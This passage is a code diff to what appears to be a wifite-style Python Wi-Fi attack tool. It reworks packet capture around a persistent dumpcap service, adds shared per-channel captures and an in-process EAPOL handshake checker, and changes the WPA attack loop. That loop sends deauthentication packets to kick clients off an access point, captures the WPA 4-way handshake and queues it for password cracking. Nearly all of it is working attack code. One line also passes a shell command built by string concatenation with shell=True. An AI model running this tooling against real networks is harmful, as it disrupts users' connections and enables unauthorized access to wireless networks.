+        Returns the capture files matching 'pattern': a file, a directory (every .cap,
+        .pcap and .pcapng file in it) or a glob pattern.
+    """
+    capfiles = []
+    for path in sorted(glob.glob(pattern)):
+        if os.path.isdir(path):
+            for filename in sorted(os.listdir(path)):
+                if filename.lower().endswith(('.cap', '.pcap', '.pcapng')):
+                    capfiles.append(os.path.join(path, filename))
+        elif os.path.isfile(path) and not path.endswith('.idx'):
+            capfiles.append(path)
+    return capfiles
+
+
+def check_worker_init(config):
+    """
+        Sets up a worker process of RunEngine.check_capfiles() with the run's configuration.
+    """
+    global RUN_CONFIG
+    RUN_CONFIG = config
+
+
+def check_capfile(capfile):
+    """
+        Checks one capture file for the handshakes of every access point in it.
+        Runs in a worker process of RunEngine.check_capfiles(); returns a dict for the report.
+    """
+    global RUN_CONFIG
+    result = {'file': capfile, 'error': '', 'bssids': []}
+    try:
+        (reader, tracker) = indexed_tracker(capfile, RUN_CONFIG.WPA_HANDSHAKE_POLICY)
+    except (IOError, struct.error) as e:
+        result['error'] = str(e)
+        return result
+    if reader.offset == 0:
+        result['error'] = 'not a capture file'
+        return result
+
+    wpa_attack = WPAAttack(None, None, None, RUN_CONFIG)
+    for bssid in sorted(set(hs.bssid for hs in tracker.handshakes.values())):
+        essid = tracker.beacons[bssid][1] if bssid in tracker.beacons else ''
+        t = Target(bssid.upper(), '', '', '', 'WPA', essid)
+        hs = tracker.handshake_for(bssid)
+        ap = {'bssid': t.bssid, 'essid': essid, 'eapol': hs is not None,
+              'client': hs.client if hs else '', 'pair': hs.describe_pair() if hs else '',
+              'tshark': None, 'pyrit': None, 'cowpatty': None, 'aircrack': None}
+        # The external programs are only asked about access points with a handshake
+        if hs is not None:
+            if RUN_CONFIG.WPA_HANDSHAKE_TSHARK and program_exists('tshark'):
+                ap['tshark'] = wpa_attack.has_handshake_tshark(t, capfile)
+            if RUN_CONFIG.WPA_HANDSHAKE_PYRIT and program_exists('pyrit'):
+                ap['pyrit'] = wpa_attack.has_handshake_pyrit(t, capfile)
+            if RUN_CONFIG.WPA_HANDSHAKE_COWPATTY and program_exists('cowpatty'):
+                ap['cowpatty'] = wpa_attack.has_handshake_cowpatty(t, capfile)
+            if RUN_CONFIG.WPA_HANDSHAKE_AIRCRACK and program_exists('aircrack-ng'):
+                ap['aircrack'] = wpa_attack.has_handshake_aircrack(t, capfile)
+        result['bssids'].append(ap)
+    return result
+
+
+def attack_interrupted_prompt():
+    """
+        Promps user to decide if they want to exit,
+        skip to cracking WPA handshakes,
+        or continue attacking the remaining targets (if applicable).
+        returns True if user chose to exit complete, False otherwise
+    """
+    global RUN_CONFIG
+    should_we_exit = False
+    # If there are more targets to attack, ask what to do next
+    if RUN_CONFIG.TARGETS_REMAINING > 0:
+        options = ''
+        print(GR + "\n [+] %s%d%s target%s remain%s" % (G, RUN_CONFIG.TARGETS_REMAINING, W,
+                                                        '' if RUN_CONFIG.TARGETS_REMAINING == 1 else 's',
+                                                        's' if RUN_CONFIG.TARGETS_REMAINING == 1 else ''))
+        print(GR + " [+]" + W + " What do you want to do?")
+        options += G + 'c' + W
+        print(G + "     [c]ontinue" + W + " Attacking targets")
+
+        if len(RUN_CONFIG.WPA_CAPS_TO_CRACK) > 0:
+            options += W + ', ' + O + 's' + W
+            print(O + "     [s]kip" + W + " to cracking WPA cap files")
+        options += W + ', or ' + R + 'e' + W
+        print(R + "     [e]xit" + W + " completely")
+        ri = ''
+        while ri != 'c' and ri != 's' and ri != 'e':
+            ri = input(GR + ' [+]' + W + ' Please make a selection (%s): ' % options)
+
+        if ri == 's':
+            RUN_CONFIG.TARGETS_REMAINING = -1  # Tells start() to ignore other targets, skip to cracking
+        elif ri == 'e':
+            should_we_exit = True
+    return should_we_exit
+
+
+#
+# Abstract base class for attacks.
+# Attacks are required to implement the following methods:
+#       RunAttack - Initializes the attack
+#       EndAttack - Cleanly ends the attack
+#
+class Attack(object, metaclass=abc.ABCMeta):
+    @abc.abstractmethod
+    def RunAttack(self):
+        raise NotImplementedError()
+
+    @abc.abstractmethod
+    def EndAttack(self):
+        raise NotImplementedError()
+
+
+#################
+# WPA FUNCTIONS #
+#################
+class StationTable:
+    """
+        Which clients talk to which access point, from the data frames of a capture.
+        Stands in for the client list of airodump-ng's CSV file.
+    """
+
+    def __init__(self):
+        self.stations = {}  # BSSID: {client MAC: time last seen}
+
+    def feed(self, offset, linktype, packet):
+        frame = dot11_frame(linktype, packet)
+        if frame is None or len(frame) < 24 or frame[0] & 0x0c != 0x08:
+            return  # Not a data frame
+        to_ds, from_ds = frame[1] & 0x01, frame[1] & 0x02
+        if to_ds and not from_ds:
+            (bssid, client) = (frame[4:10], frame[10:16])
+        elif from_ds and not to_ds:
+            (bssid, client) = (frame[10:16], frame[4:10])
+        else:
+            return
+        if client[0] & 0x01:
+            return  # Group address
+        self.stations.setdefault(format_mac(bssid).upper(), {})[format_mac(client).upper()] = time.time()
+
+    def clients(self):
+        """
+            Returns a Client for every client seen, like RunEngine.parse_csv.
+        """
+        return [Client(client, bssid, 0) for (bssid, clients) in self.stations.items() for client in clients]
+
+
+class CaptureService:
+    """
+        One dumpcap capture kept running from the scan to the last attack. Switching targets
+        retunes the interface with iw instead of restarting a capture program. Consumers
+        subscribe an object with feed(offset, linktype, packet) and get every frame captured
+        from then on; the station table is one of them. Control frames and encrypted data frames
+        are dropped in the kernel, but their headers are not needed: clients show up in null data
+        frames too. Once the file reaches CAPTURE_MAX_SIZE, dumpcap stops and the capture is
+        started afresh in a new file (the old one is removed).
+    """
+    FILTER = 'not type ctl and not (type data and wlan[1] & 0x40 != 0)'
+
+    def __init__(self, iface, config):
+        self.iface = iface
+        self.RUN_CONFIG = config
+        self.proc = None
+        self.runs = 0
+        self.cap_file = ''
+        self.reader = None
+        self.channel = None  # As last set through tune()
+        self.started_at = 0  # When dumpcap was last started (it creates its file shortly after)
+        self.subscribers = []
+        self.stations = StationTable()
+
+    def start(self):
+        """
+            Starts dumpcap unless it is running (it stops itself when the file is full).
+            Returns True if it was (re)started: frames read before are gone, and so are the subscribers.
+        """
+        if self.proc is not None and self.proc.poll() is None:
+            if os.path.exists(self.cap_file) or time.time() - self.started_at < 5:
+                return False
+            send_interrupt(self.proc)  # Its file was removed: nothing it writes can be read
+        self.poll()  # The subscribers get the rest of the full file
+        remove_file(self.cap_file)
+        self.runs += 1
+        self.cap_file = os.path.join(self.RUN_CONFIG.temp, 'capture-%d.cap' % self.runs)
+        remove_file(self.cap_file)
+        cmd = ['dumpcap',
+               '-i', self.iface,
+               '-P',  # pcap format, not pcapng
+               '-q',
+               '-f', self.FILTER,
+               '-a', 'filesize:%d' % (self.RUN_CONFIG.CAPTURE_MAX_SIZE * 1000),  # kB
+               '-w', self.cap_file]
+        # In a session of its own: the ^C which ends the scan (or skips a target) must not stop it
+        self.proc = Popen(cmd, stdout=DN, stderr=DN, start_new_session=True)
+        self.started_at = time.time()
+        self.reader = PcapReader(self.cap_file)
+        self.subscribers = [self.stations]
+        return True
+
+    def tune(self, channel):
+        """
+            Moves the interface (and so the capture) to 'channel'.
+        """
+        call(['iw', 'dev', self.iface, 'set', 'channel', str(channel)], stdout=DN, stderr=DN)
+        self.channel = channel
+
+    def subscribe(self, consumer):
+        self.poll()  # The consumer gets what is captured from now on
+        self.subscribers.append(consumer)
+
+    def unsubscribe(self, consumer):
+        if consumer in self.subscribers:
+            self.subscribers.remove(consumer)
+
+    def poll(self):
+        """
+            Hands the frames captured since the last call to the subscribers.
+        """
+        if self.reader is None or not os.path.exists(self.cap_file):
+            return
+        for (offset, _, linktype, packet) in self.reader.read():
+            for consumer in self.subscribers:
+                consumer.feed(offset, linktype, packet)
+
+    def stop(self):
+        send_interrupt(self.proc)
+        self.proc = None
+        remove_file(self.cap_file)
+
+
+class ChannelCapture:
+    """
+        The capture of the WPA attacks on one channel. airodump-ng (and dumpcap, for a filtered
+        capture) runs once for every access point of the group, and a HandshakeTracker follows
+        the EAPOL exchanges of each of them. While one access point is attacked, the handshakes
+        of the others are collected passively, and moving on to the next one restarts nothing.
+    """
+
+    def __init__(self, iface, channel, bssids, config):
+        self.iface = iface
+        self.channel = channel
+        self.bssids = bssids
+        self.RUN_CONFIG = config
+        self.service = config.CAPTURE_SERVICE  # With a persistent capture, no capture program is started
+        self.artifacts = ArtifactTracker(config.temp)
+        self.file_prefix = self.artifacts.airodump(os.path.join(config.temp, 'wpa'))
+        self.cap_file = self.file_prefix + '-01.cap'
+        self.csv_file = self.file_prefix + '-01.csv'
+        # With a filtered capture, dumpcap writes the handshake frames and airodump-ng only finds clients
+        if config.WPA_FILTERED_CAPTURE:
+            self.cap_file = self.artifacts.add(os.path.join(config.temp, 'wpa-hs.cap'))
+        self.proc_read = None
+        self.proc_filter = None
+        self.reader = None
+        self.tracker = None
+
+    def start(self):
+        """
+            Starts the capture, unless it is running (it may have been stopped by ^C).
+        """
+        if self.service is not None:
+            if self.service.start() or self.tracker is None:
+                self.follow_service()
+            self.service.tune(self.channel)  # Other attacks tune the interface themselves
+            return
+
+        if self.proc_read is not None and self.proc_read.poll() is None and \
+                (self.proc_filter is None or self.proc_filter.poll() is None):
+            return
+        self.stop()
+
+        cmd = ['airodump-ng',
+               '-w', self.file_prefix,
+               '-c', self.channel,
+               '--write-interval', '1']
+        if len(self.bssids) == 1:
+            cmd.append('--bssid')
+            cmd.append(self.bssids[0])
+        if self.RUN_CONFIG.WPA_FILTERED_CAPTURE:
+            cmd.append('--output-format')
+            cmd.append('csv')
+        cmd.append(self.iface)
+        self.proc_read = Popen(cmd, stdout=DN, stderr=DN)
+
+        if self.RUN_CONFIG.WPA_FILTERED_CAPTURE:
+            cmd = ['dumpcap',
+                   '-i', self.iface,
+                   '-P',  # pcap format, not pcapng
+                   '-q',
+                   '-f', handshake_capture_filter(self.bssids),
+                   '-w', self.cap_file]
+            self.proc_filter = Popen(cmd, stdout=DN, stderr=DN)
+
+        # Follows the capture as it grows, EAPOL frames per access point
+        self.reader = PcapReader(self.cap_file)
+        self.tracker = HandshakeTracker(self.RUN_CONFIG.WPA_HANDSHAKE_POLICY, self.bssids)
+
+    def follow_service(self):
+        """
+            Tracks handshakes in the persistent capture's current file.
+        """
+        self.tracker = HandshakeTracker(self.RUN_CONFIG.WPA_HANDSHAKE_POLICY, self.bssids)
+        self.service.subscribe(self.tracker)
+        self.proc_read = self.service.proc
+        self.reader = self.service.reader
+        self.cap_file = self.service.cap_file
+
+    def update(self):
+        """
+            Reads what was captured since the last call. Returns True if the tracker was
+            replaced (the persistent capture's file was full): its frame count starts over.
+        """
+        if self.service is not None:
+            rotated = self.service.start()
+            if rotated:
+                self.follow_service()  # Handshakes are tracked in the next file
+            self.service.poll()
+            return rotated
+        if os.path.exists(self.cap_file):
+            self.tracker.feed_file(self.reader)
+        return False
+
+    def clients(self):
+        """
+            Returns the Clients seen on the channel.
+        """
+        if self.service is not None:
+            return self.service.stations.clients()
+        return self.RUN_CONFIG.RUN_ENGINE.parse_csv(self.csv_file)[1]
+
+    def snapshot(self, bssid, filename):
+        """
+            Writes what the validators need to check the handshake of 'bssid' to 'filename':
+            a copy of the capture, or only the handshake frames from the persistent one.
+        """
+        if self.service is None:
+            copy_file(self.cap_file, filename)
+            return
+        handshake = self.tracker.handshake_for(bssid)
+        if handshake is None or not write_handshake(self.reader, self.tracker, handshake, filename):
+            copy_file(self.cap_file, filename)
+
+    def stop(self):
+        if self.service is not None:
+            self.service.unsubscribe(self.tracker)
+            self.tracker = None
+            self.proc_read = None
+            return
+        send_interrupt(self.proc_read)
+        send_interrupt(self.proc_filter)
+        self.proc_read = None
+        self.proc_filter = None
+        self.artifacts.clean()
+
+
+class WPAAttack(Attack):
+    def __init__(self, iface, target, clients, config, capture=None):
         self.iface = iface
         self.clients = clients
         self.target = target
         self.RUN_CONFIG = config
+        self.handshake = None  # Handshake which satisfied the handshake policy
+        self.capture = capture  # ChannelCapture shared with the other targets of the channel, None for an own one
 
     def RunAttack(self):
         '''
             Abstract method for initializing the WPA attack
         '''
-        self.wpa_get_handshake()
+        return self.wpa_get_handshake()
 
     def EndAttack(self):
         '''
@@ -2021,41 +3801,38 @@ class WPAAttack(Attack):
 
         if self.RUN_CONFIG.WPA_ATTACK_TIMEOUT <= 0: self.RUN_CONFIG.WPA_ATTACK_TIMEOUT = -1
 
-        # Generate the filename to save the .cap file as <SSID>_aa-bb-cc-dd-ee-ff.cap
-        save_as = self.RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep + re.sub(r'[^a-zA-Z0-9]', '', self.target.ssid) \
-                  + '_' + self.target.bssid.replace(':', '-') + '.cap'
+        # Filename to save the .cap file as: <SSID>_aa-bb-cc-dd-ee-ff.cap (or _1, _2 ... if taken)
+        save_as = new_handshake_filename(self.target.ssid, self.target.bssid)
 
-        # Check if we already have a handshake for this SSID... If we do, generate a new filename
-        save_index = 0
-        while os.path.exists(save_as):
-            save_index += 1
-            save_as = self.RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep + re.sub(r'[^a-zA-Z0-9]', '', self.target.ssid) \
-                      + '_' + self.target.bssid.replace(':', '-') \
-                      + '_' + str(save_index) + '.cap'
+        # Capture of the channel group, or of this target alone
+        shared = self.capture is not None
+        capture = self.capture if shared else ChannelCapture(self.iface, self.target.channel, [self.target.bssid],
+                                                             self.RUN_CONFIG)
+        temp_cap_file = os.path.join(self.RUN_CONFIG.temp, 'wpa.cap.temp')
 
-        file_prefix = os.path.join(self.RUN_CONFIG.temp, 'wpa')
-        cap_file = file_prefix + '-01.cap'
-        csv_file = file_prefix + '-01.csv'
+        artifacts = ArtifactTracker(self.RUN_CONFIG.temp)
+        artifacts.add(temp_cap_file)
 
-        # Remove previous airodump output files (if needed)
-        remove_airodump_files(file_prefix)
+        # Remove previous output files (if needed)
+        artifacts.clean()
 
         # Start of large Try-Except; used for catching keyboard interrupt (Ctrl+C)
         try:
-            # Start airodump-ng process to capture handshakes
-            cmd = ['airodump-ng',
-                   '-w', file_prefix,
-                   '-c', self.target.channel,
-                   '--write-interval', '1',
-                   '--bssid', self.target.bssid,
-                   self.iface]
-            proc_read = Popen(cmd, stdout=DN, stderr=DN)
+            # Start airodump-ng process to capture handshakes (a shared capture is already running)
+            capture.start()
+            proc_read = capture.proc_read
+            proc_filter = capture.proc_filter
 
             # Setting deauthentication process here to avoid errors later on
             proc_deauth = None
 
             print(' %s Starting %sWPA Handshake Capture%s on "%s"' % \
-                  (GR + sec_to_hms(self.RUN_CONFIG.WPA_ATTACK_TIMEOUT) + W, G, W, G + self.target.ssid + W))
+                  (GR + sec_to_hms(self.RUN_CONFIG.WPA_ATTACK_TIMEOUT) + W, G, W, G + self.target.ssid + W), end=' ')
+            if len(capture.bssids) > 1:
+                print('(shared with %s%d%s access point%s on channel %s)' % (
+                G, len(capture.bssids) - 1, W, '' if len(capture.bssids) == 2 else 's', capture.channel))
+            else:
+                print('')
             got_handshake = False
 
             seconds_running = 0
@@ -2063,21 +3840,33 @@ class WPAAttack(Attack):
 
             target_clients = self.clients[:]
             client_index = -1
+
+            # The capture is followed as it grows. The validators only run after new EAPOL frames
+            # have arrived and the target's could satisfy the handshake policy; in a shared capture,
+            # one may have been collected already while another access point was attacked.
+            eapol_checked = 0  # EAPOL frames seen when the validators last ran
+
             start_time = time.time()
             # Deauth and check-for-handshake loop
             while not got_handshake and (
                     self.RUN_CONFIG.WPA_ATTACK_TIMEOUT <= 0 or seconds_running < self.RUN_CONFIG.WPA_ATTACK_TIMEOUT):
-                if proc_read.poll() != None:
+                # (the persistent capture is started afresh by update() when its file is full)
+                if capture.service is None and proc_read.poll() != None:
                     print("")
                     print("airodump-ng exited with status " + str(proc_read.poll()))
                     print("")
                     break
+                if proc_filter != None and proc_filter.poll() != None:
+                    print("")
+                    print("dumpcap exited with status " + str(proc_filter.poll()))
+                    print("")
+                    break
                 time.sleep(1)
                 seconds_since_last_deauth += int(time.time() - start_time - seconds_running)
                 seconds_running = int(time.time() - start_time)
 
                 print("                                                          \r", end=' ')
-                print_green(' %s Listening for Handshake...\r' % target.ssid
+                print(' %s Listening for Handshake...\r' % \
                       (GR + sec_to_hms(self.RUN_CONFIG.WPA_ATTACK_TIMEOUT - seconds_running) + W), end=' ')
                 stdout.flush()
 
@@ -2093,12 +3882,12 @@ class WPAAttack(Attack):
                     client_index += 1
 
                     if client_index == -1 or len(target_clients) == 0 or client_index >= len(target_clients):
-                        print_green(" %s Sending %s Deauth To %s*Broadcast*%s..." % \
+                        print(" %s Sending %s Deauth To %s*Broadcast*%s..." % \
                               (GR + sec_to_hms(self.RUN_CONFIG.WPA_ATTACK_TIMEOUT - seconds_running) + W,
                                G + str(self.RUN_CONFIG.WPA_DEAUTH_COUNT) + W, G, W), end=' ')
                         client_index = -1
                     else:
-                        print_green(" %s Sending %s Deauth To %s... " % \
+                        print(" %s Sending %s Deauth To %s... " % \
                               (GR + sec_to_hms(self.RUN_CONFIG.WPA_ATTACK_TIMEOUT - seconds_running) + W, \
                                G + str(self.RUN_CONFIG.WPA_DEAUTH_COUNT) + W, \
                                G + target_clients[client_index].bssid + W), end=' ')
@@ -2108,57 +3897,81 @@ class WPAAttack(Attack):
                     stdout.flush()
 
                     # Send deauth packets via aireplay, wait for them to complete.
-                    proc_deauth = Popen(cmd, stdout=DN, stderr=DN)
+                    proc_deauth = artifacts.popen(cmd, stdout=DN, stderr=DN)
                     proc_deauth.wait()
                     print("sent\r", end=' ')
                     stdout.flush()
 
-                # Copy current dump file for consistency
-                if not os.path.exists(cap_file): continue
-                temp_cap_file = cap_file + '.temp'
-                copy(cap_file, temp_cap_file)
+                if capture.service is None and not os.path.exists(capture.cap_file): continue
+                if capture.update():
+                    eapol_checked = 0
+                if capture.tracker.frames > eapol_checked and capture.tracker.handshake_for(self.target.bssid):
+                    eapol_checked = capture.tracker.frames
 
-                # Save copy of cap file (for debugging)
-                #remove_file('/root/new/wpa-01.cap')
-                #copy(temp + 'wpa-01.cap', '/root/new/wpa-01.cap')
+                    # Copy current dump file for consistency
+                    capture.snapshot(self.target.bssid, temp_cap_file)
 
-                # Check for handshake
-                if self.has_handshake(self.target, temp_cap_file):
-                    got_handshake = True
+                    # Save copy of cap file (for debugging)
+                    #remove_file('/root/new/wpa-01.cap')
+                    #copy(temp + 'wpa-01.cap', '/root/new/wpa-01.cap')
 
-                    try:
-                        os.mkdir(self.RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep)
-                    except OSError:
-                        pass
+                    # Check for handshake
+                    if self.has_handshake(self.target, temp_cap_file):
+                        got_handshake = True
 
-                    # Kill the airodump and aireplay processes
-                    send_interrupt(proc_read)
-                    send_interrupt(proc_deauth)
+                        try:
+                            os.mkdir(self.RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep)
+                        except OSError:
+                            pass
 
-                    # Save a copy of the handshake
-                    rename(temp_cap_file, save_as)
+                        # Kill the aireplay process, and airodump and dumpcap unless the capture is shared
+                        send_interrupt(proc_deauth)
+                        if not shared:
+                            capture.stop()
+
+                        # Same EAPOL exchange as a handshake we already have: merged into it, which is cracked instead
+                        duplicate = handshake_catalog().duplicate_of(self.handshake, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY)
+                        if duplicate is not None:
+                            remove_file(temp_cap_file)
+                            print('\n %s %sHandshake Captured%s! Same handshake as "%s", not saved again' % (
+                            GR + sec_to_hms(seconds_running) + W, G, W, G + duplicate.filename + W))
+                            self.RUN_CONFIG.WPA_FINDINGS.append(
+                                '%s (%s) Handshake Captured' % (self.target.ssid, self.target.bssid))
+                            self.RUN_CONFIG.WPA_FINDINGS.append('Same handshake as %s' % (duplicate.filename))
+                            self.RUN_CONFIG.WPA_FINDINGS.append('')
+                            self.RUN_CONFIG.queue_for_cracking(duplicate)
+                            break
+
+                        # Save a copy of the handshake
+                        rename(temp_cap_file, save_as)
 
-                    print('\n %s %sHandshake Captured%s! Saved as "%s"' % (
-                    GR + sec_to_hms(seconds_running) + W, G, W, G + save_as + W))
-                    self.RUN_CONFIG.WPA_FINDINGS.append(
-                        '%s (%s) Handshake Captured' % (self.target.ssid, self.target.bssid))
-                    self.RUN_CONFIG.WPA_FINDINGS.append('Saved as %s' % (save_as))
-                    self.RUN_CONFIG.WPA_FINDINGS.append('')
+                        print('\n %s %sHandshake Captured%s! Saved as "%s"' % (
+                        GR + sec_to_hms(seconds_running) + W, G, W, G + save_as + W))
+                        print(' %s Messages %s from client %s (policy: %s)' % (
+                        GR + sec_to_hms(seconds_running) + W, G + self.handshake.describe_pair() + W,
+                        G + self.handshake.client + W, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY))
+                        self.RUN_CONFIG.WPA_FINDINGS.append(
+                            '%s (%s) Handshake Captured' % (self.target.ssid, self.target.bssid))
+                        self.RUN_CONFIG.WPA_FINDINGS.append('Saved as %s' % (save_as))
+                        self.RUN_CONFIG.WPA_FINDINGS.append(
+                            'Messages %s from client %s' % (self.handshake.describe_pair(), self.handshake.client))
+                        self.RUN_CONFIG.WPA_FINDINGS.append('')
 
-                    # Strip handshake if needed
-                    if self.RUN_CONFIG.WPA_STRIP_HANDSHAKE: self.strip_handshake(save_as)
+                        # Strip handshake if needed (a shared capture holds the traffic of the whole group)
+                        if self.RUN_CONFIG.WPA_STRIP_HANDSHAKE or shared: self.strip_handshake(save_as)
 
-                    # Add the filename and SSID to the list of 'to-crack'
-                    # Cracking will be handled after all attacks are finished.
-                    self.RUN_CONFIG.WPA_CAPS_TO_CRACK.append(CapFile(save_as, self.target.ssid, self.target.bssid))
+                        # Add the filename and SSID to the list of 'to-crack'
+                        # Cracking will be handled after all attacks are finished.
+                        self.RUN_CONFIG.WPA_CAPS_TO_CRACK.append(
+                            handshake_catalog().archive(save_as, self.target.ssid, self.handshake))
 
-                    break  # Break out of while loop
+                        break  # Break out of while loop
 
-                # No handshake yet
-                os.remove(temp_cap_file)
+                    # No handshake yet
+                    os.remove(temp_cap_file)
 
-                # Check the airodump output file for new clients
-                for client in self.RUN_CONFIG.RUN_ENGINE.parse_csv(csv_file)[1]:
+                # Check the airodump output file (or the station table) for new clients
+                for client in capture.clients():
                     if client.station != self.target.bssid: continue
                     new_client = True
                     for c in target_clients:
@@ -2180,23 +3993,25 @@ class WPAAttack(Attack):
         except KeyboardInterrupt:
             print_red(R + '\n (^C)' + O + ' WPA Handshake Capture Interrupted' + W)
             if attack_interrupted_prompt():
-                remove_airodump_files(file_prefix)
-                send_interrupt(proc_read)
+                artifacts.clean()
+                capture.stop()
                 send_interrupt(proc_deauth)
                 print('')
                 self.RUN_CONFIG.exit_gracefully(0)
 
 
         # clean up
-        remove_airodump_files(file_prefix)
-        send_interrupt(proc_read)
+        if not shared:
+            capture.stop()
         send_interrupt(proc_deauth)
+        artifacts.clean()
 
         return got_handshake
 
     def has_handshake_tshark(self, target, capfile):
         """
             Uses TShark to check for a handshake.
+            The sequence of messages required follows WPA_HANDSHAKE_POLICY.
             Returns "True" if handshake is found, false otherwise.
         """
         if program_exists('tshark'):
@@ -2208,13 +4023,20 @@ class WPAAttack(Attack):
                    '-n']  # Do not resolve names (MAC vendors)
             proc = Popen(cmd, stdout=PIPE, stderr=DN)
             proc.wait()
-            lines = proc.communicate()[0].split(b'\n')
+            lines = proc.communicate()[0].decode('utf-8', 'replace').split('\n')
 
+            # (first, last) message numbers which must appear in sequential order
+            if self.RUN_CONFIG.WPA_HANDSHAKE_POLICY == 'strict':
+                sequences = [(1, 4)]
+            elif self.RUN_CONFIG.WPA_HANDSHAKE_POLICY == 'pair':
+                sequences = [(1, 2), (2, 3)]
+            else:
+                sequences = [(1, 3)]
 
             # Get list of all clients in cap file
             clients = []
             for line in lines:
-                if line.find(b'Appears to have been cut short') != -1 or line.find(b'Running as user "root"') != -1 or line.strip() == b'':
+                if line.find('Appears to have been cut short') != -1 or line.find('Running as user "root"') != -1 or line.strip() == '':
                     continue
 
                 while line.startswith(' '):  line = line[1:]
@@ -2235,54 +4057,54 @@ class WPAAttack(Attack):
 
             # Check each client for a handshake
             for client in clients:
-                msg_num = 1  # Index of message in 4-way handshake (starts at 1)
+                for (first_msg, last_msg) in sequences:
+                    msg_num = first_msg  # Index of message in 4-way handshake
 
-                for line in lines:
-                    if line.find('Appears to have been cut short') != -1: continue
-                    if line.find('Running as user "root"') != -1: continue
-                    if line.strip() == '': continue
+                    for line in lines:
+                        if line.find('Appears to have been cut short') != -1: continue
+                        if line.find('Running as user "root"') != -1: continue
+                        if line.strip() == '': continue
 
-                    # Sanitize tshark's output, separate into fields
-                    while line[0] == ' ': line = line[1:]
-                    while line.find('  ') != -1: line = line.replace('  ', ' ')
+                        # Sanitize tshark's output, separate into fields
+                        while line[0] == ' ': line = line[1:]
+                        while line.find('  ') != -1: line = line.replace('  ', ' ')
 
-                    fields = line.split(' ')
+                        fields = line.split(' ')
 
-                    # Sometimes tshark doesn't display the full header for "Key (msg 3/4)" on the 3rd handshake.
-                    # This catches this glitch and fixes it.
-                    if len(fields) < 8:
-                        continue
-                    elif len(fields) == 8:
-                        fields.append('(msg')
-                        fields.append('3/4)')
-
-                    src = fields[2].lower()  # Source MAC address
-                    dst = fields[4].lower()  # Destination MAC address
-                    if len(fields) == 12:
-                        # "Message x of y" format
-                        msg = fields[9][0]
-                    else:
-                        msg = fields[-1][0]
+                        # Sometimes tshark doesn't display the full header for "Key (msg 3/4)" on the 3rd handshake.
+                        # This catches this glitch and fixes it.
+                        if len(fields) < 8:
+                            continue
+                        elif len(fields) == 8:
+                            fields.append('(msg')
+                            fields.append('3/4)')
+
+                        src = fields[2].lower()  # Source MAC address
+                        dst = fields[4].lower()  # Destination MAC address
+                        if len(fields) == 12:
+                            # "Message x of y" format
+                            msg = fields[9][0]
+                        else:
+                            msg = fields[-1][0]
 
-                    # First, third msgs in 4-way handshake are from the target to client
-                    if msg_num % 2 == 1 and (src != target.bssid.lower() or dst != client):
-                        continue
-                    # Second, fourth msgs in 4-way handshake are from client to target
-                    elif msg_num % 2 == 0 and (dst != target.bssid.lower() or src != client):
-                        continue
+                        # First, third msgs in 4-way handshake are from the target to client
+                        if msg_num % 2 == 1 and (src != target.bssid.lower() or dst != client):
+                            continue
+                        # Second, fourth msgs in 4-way handshake are from client to target
+                        elif msg_num % 2 == 0 and (dst != target.bssid.lower() or src != client):
+                            continue
 
-                    # The messages must appear in sequential order.
-                    try:
-                        if int(msg) != msg_num: continue
-                    except ValueError:
-                        continue
+                        # The messages must appear in sequential order.
+                        try:
+                            if int(msg) != msg_num: continue
+                        except ValueError:
+                            continue
 
-                    msg_num += 1
+                        msg_num += 1
 
-                    # We need the first 4 messages of the 4-way handshake
-                    # Although aircrack-ng cracks just fine with only 3 of the messages...
-                    if msg_num >= 4:
-                        return True
+                        # Stop once the policy's last message has been seen
+                        if msg_num > last_msg:
+                            return True
         return False
 
     def has_handshake_cowpatty(self, target, capfile, nonstrict=True):
@@ -2301,7 +4123,7 @@ class WPAAttack(Attack):
         if nonstrict: cmd.append('-2')
         proc = Popen(cmd, stdout=PIPE, stderr=DN)
         proc.wait()
-        response = proc.communicate()[0]
+        response = proc.communicate()[0].decode('utf-8', 'replace')
         if response.find('Incomplete four-way handshake exchange') != -1:
             return False
         elif response.find('Unsupported or unrecognized pcap file.') != -1:
@@ -2324,7 +4146,7 @@ class WPAAttack(Attack):
         proc = Popen(cmd, stdout=PIPE, stderr=DN)
         proc.wait()
         hit_essid = False
-        for line in proc.communicate()[0].split('\n'):
+        for line in proc.communicate()[0].decode('utf-8', 'replace').split('\n'):
             # Iterate over every line of output by Pyrit
             if line == '' or line == None: continue
             if line.find("AccessPoint") != -1:
@@ -2347,51 +4169,57 @@ class WPAAttack(Attack):
         crack = 'echo "" | aircrack-ng -a 2 -w - -b ' + target.bssid + ' ' + capfile
         proc_crack = Popen(crack, stdout=PIPE, stderr=DN, shell=True)
         proc_crack.wait()
-        txt = proc_crack.communicate()[0]
+        txt = proc_crack.communicate()[0].decode('utf-8', 'replace')
 
         return (txt.find('Passphrase not in dictionary') != -1)
 
+    def has_handshake_eapol(self, target, capfile):
+        """
+            Reads the EAPOL-Key frames in capfile (without external programs) and checks them
+            against WPA_HANDSHAKE_POLICY. Remembers the handshake that satisfied it in self.handshake.
+            Returns True if handshake is found, False otherwise.
+        """
+        (_, tracker) = indexed_tracker(capfile, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY, [target.bssid])
+        self.handshake = tracker.handshake_for(target.bssid)
+        return self.handshake is not None
+
     def has_handshake(self, target, capfile):
         """
             Checks if .cap file contains a handshake.
             Returns True if handshake is found, False otherwise.
         """
-        valid_handshake = True
-        tried = False
-        if self.RUN_CONFIG.WPA_HANDSHAKE_TSHARK:
-            tried = True
-            valid_handshake = self.has_handshake_tshark(target, capfile)
+        # The handshake policy is always enforced (in-process); the programs below can only add to it.
+        valid_handshake = self.has_handshake_eapol(target, capfile)
 
-        if valid_handshake and self.RUN_CONFIG.WPA_HANDSHAKE_COWPATTY:
-            tried = True
-            valid_handshake = self.has_handshake_cowpatty(target, capfile)
+        if valid_handshake and self.RUN_CONFIG.WPA_HANDSHAKE_TSHARK:
+            valid_handshake = self.has_handshake_tshark(target, capfile)
 
         # Use CowPatty to check for handshake.
         if valid_handshake and self.RUN_CONFIG.WPA_HANDSHAKE_COWPATTY:
-            tried = True
             valid_handshake = self.has_handshake_cowpatty(target, capfile)
 
         # Check for handshake using Pyrit if applicable
         if valid_handshake and self.RUN_CONFIG.WPA_HANDSHAKE_PYRIT:
-            tried = True
             valid_handshake = self.has_handshake_pyrit(target, capfile)
 
         # Check for handshake using aircrack-ng
         if valid_handshake and self.RUN_CONFIG.WPA_HANDSHAKE_AIRCRACK:
-            tried = True
